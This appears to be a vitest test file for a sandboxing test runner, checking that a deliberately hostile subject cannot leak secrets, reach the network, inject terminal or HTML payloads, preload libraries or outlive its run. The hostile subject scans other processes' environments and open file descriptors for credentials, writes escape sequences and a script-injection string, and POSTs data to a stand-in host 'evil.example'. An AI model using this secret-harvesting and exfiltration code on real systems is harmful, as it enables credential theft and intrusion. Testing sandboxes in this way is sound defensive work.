import { execFileSync, spawn } from 'node:child_process'
import { existsSync, mkdirSync, openSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CommandLine, language, type Said } from '../../../runner/testing/command-line.ts'
import { probeForTests } from '../../../runner/testing/lane-stage.ts'
import type { RunResult } from '../../../runner/report/result.ts'

const probe = await probeForTests()
const secret = `canary-${process.pid}-of-a-run`
const launcher = join(import.meta.dirname, '../../../bin/backlot.js')
const compiler = existsSync('/usr/bin/gcc')

/** A subject of `backlot run` that looks for what the run was started with, and says it in every way. */
const spy = `import fs from 'node:fs'
const found = { ...process.env }
const read = (path) => { try { return fs.readFileSync(path, 'utf8') } catch (error) { return error.code } }
const open = fs.readdirSync('/proc/self/fd').filter((name) => Number(name) > 2).map((name) => {
  try { return fs.readlinkSync('/proc/self/fd/' + name) } catch { return '' }
})
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  const secrets = read('/proc/' + pid + '/environ').match(/canary-[^\\0]*/g)
  if (secrets !== null) found['of ' + pid] = secrets[0]
}
for (let number = 3; number < 40; number++) { try { const text = Buffer.alloc(100); fs.readSync(number, text, 0, 100, 0); found['from ' + number] = String(text) } catch {} }
const odd = '\\u001b[2J\\u001b]0;owned\\u0007\\u202e</script><script>alert(1)</script>'
process.stderr.write('\\u001b[31mError: all is lost ' + odd + '\\n')
await fetch('http://evil.example/' + encodeURIComponent(odd), { method: 'POST', body: odd }).catch(() => {})
console.log(JSON.stringify({ status: 200, body: { found, open, options: process.env.NODE_OPTIONS, odd } }))
process.exit(0)
`

/** Writes to a file as soon as any program loads it, the ones that build the wall included. */
const preloaded = `#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void load(void) {
  int file = open(CANARY, O_WRONLY | O_APPEND);
  if (file >= 0) write(file, "loaded\\n", 7);
}
`

describe.skipIf(!('tools' in probe))('a hostile subject of a run', () => {
  const line = new CommandLine()
  const canary = join(line.folder, 'outside.txt')
  let said: Said
  let result: RunResult

  beforeAll(async () => {
    writeFileSync(canary, secret)
    mkdirSync(join(line.folder, 'subject'))
    line.write('subject/spy.mjs', spy)
    const env: Record<string, string> = { NODE_OPTIONS: '--use-openssl-ca' }
    if (compiler) {
      line.write('loaded.c', preloaded)
      const library = join(line.folder, 'subject/loaded.so')
      const flags = ['-w', '-shared', '-fPIC', `-DCANARY="${canary}"`, '-o', library]
      execFileSync('gcc', [...flags, join(line.folder, 'loaded.c')])
      env['LD_PRELOAD'] = library
    }
    const description = { kind: 'command', command: ['node', 'spy.mjs'], env }
    line.write('subject/subject.json', JSON.stringify(description))
    line.write('story.ts', story)
    said = await run(line.folder, canary)
    result = JSON.parse(said.out) as RunResult
  })
  afterAll(() => line.end())

  it('sees no setting of the runner, and no file that was left open for it', () => {
    expect(JSON.stringify(bodyOf(result))).not.toContain(secret)
    expect(bodyOf(result)['open']).not.toContain(canary)
    expect(bodyOf(result)['options']).toBe('--use-openssl-ca')
  })

  it.skipIf(!compiler)('loads nothing into what walls it in', () => {
    expect(readFileSync(canary, 'utf8')).toBe(secret)
  })

  it('is found unsatisfied, behind a wall that is named', () => {
    expect(said.code).toBe(1)
    expect(result.trials.map(({ verdict }) => verdict)).toEqual(['unsatisfied', 'unsatisfied'])
    expect(result.wall).toMatchObject({ name: 'lane', unsafe: false })
    for (const { escapes } of result.trials) {
      expect(escapes.map(({ how }) => how)).toEqual(['lookup', 'POST'])
    }
  })

  it('moves no cursor of whoever reads the report, and runs nothing in the page', async () => {
    const told = await run(line.folder, canary, '--report', 'page.html')
    expect(told.out).not.toMatch(/[\u001b\u0007\u202e]/)
    expect(told.err).not.toMatch(/[\u001b\u0007\u202e]/)
    expect(readFileSync(join(line.folder, 'page.html'), 'utf8')).not.toContain('<script>alert(1)')
  })

  it('dies with its run, whoever kills that', async () => {
    const mark = `8${process.pid}.125`
    mkdirSync(join(line.folder, 'stays'))
    line.write('stays/stays.sh', `setsid sh -c 'sleep ${mark}' & sleep ${mark}\n`)
    const description = { kind: 'command', command: ['sh', 'stays.sh'] }
    line.write('stays/subject.json', JSON.stringify(description))
    const run = line.start('run', 'story.ts', '--subject', 'stays/subject.json', '--no-history')
    await expect.poll(() => running(mark), { timeout: 30_000, interval: 100 }).toBeGreaterThan(1)
    run.kill('SIGKILL')
    await expect.poll(() => running(mark), { timeout: 10_000, interval: 100 }).toBe(0)
    // One that was just being started when the run was killed comes late.
    await wait(1500)
    expect(running(mark)).toBe(0)
  })

  it('finds the secret, and is loaded outside, where no wall stands', async () => {
    const free = await run(line.folder, canary, '--wall', 'environment', '--json')
    expect(JSON.stringify(bodyOf(JSON.parse(free.out) as RunResult))).toContain(secret)
    if (compiler) expect(readFileSync(canary, 'utf8')).toContain('loaded')
  })
})

const story = `import { scenario } from '${language}'
export default scenario('A spy is asked', { twins: ['slack'] }, async ({ subject, check }) => {
  const reply = await subject.post('/go', {})
  check('it answers', reply.status, 200)
  check('it says nothing', reply.body.odd, undefined)
})
`

function bodyOf({ trials }: RunResult): Record<string, unknown> {
  return trials[0]!.requests[0]!.reply.body as Record<string, unknown>
}

/** How many processes sleep for so long. */
function running(seconds: string): number {
  return readdirSync('/proc').filter((name) => {
    try {
      return readFileSync(`/proc/${name}/cmdline`, 'utf8').startsWith(`sleep\0${seconds}`)
    } catch {
      return false
    }
  }).length
}

/** A run as somebody careless starts it: with secrets in its environment, and a file open for whoever comes after. */
function run(cwd: string, canary: string, ...rest: string[]): Promise<Said> {
  const file = openSync(canary, 'r')
  const subject = join('subject', 'subject.json')
  const output = rest.length === 0 ? ['--json'] : rest
  const args = [launcher, 'run', 'story.ts', '--subject', subject, '--trials', '2', ...output]
  const env = { ...process.env, AWS_SECRET_ACCESS_KEY: secret, NODE_OPTIONS: '--no-warnings' }
  const open = Array.from({ length: 21 }, (_, i) => (i < 3 ? 'pipe' : i === 20 ? file : 'ignore'))
  const child = spawn(process.execPath, args, { cwd, env, stdio: open as never })
  return new Promise((resolve) => {
    let [out, err] = ['', '']
    child.stdout!.on('data', (data: Buffer) => (out += String(data)))
    child.stderr!.on('data', (data: Buffer) => (err += String(data)))
    child.on('close', (code) => resolve({ code, out, err }))
  })
}
